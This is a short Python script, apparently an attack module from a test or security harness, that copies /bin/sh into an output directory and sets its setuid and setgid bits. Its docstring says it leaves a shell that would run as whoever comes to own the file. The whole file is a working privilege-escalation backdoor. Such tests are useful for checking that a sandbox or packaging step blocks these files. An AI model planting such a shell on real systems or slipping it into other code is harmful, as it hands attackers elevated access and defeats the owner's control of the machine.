"""Leaves a shell that would run as whoever comes to own it."""

import os
import shutil

from attack import facts, finish

target = f"{facts['out']}/shell"
shutil.copy("/bin/sh", target)
os.chmod(target, 0o6755)
finish()
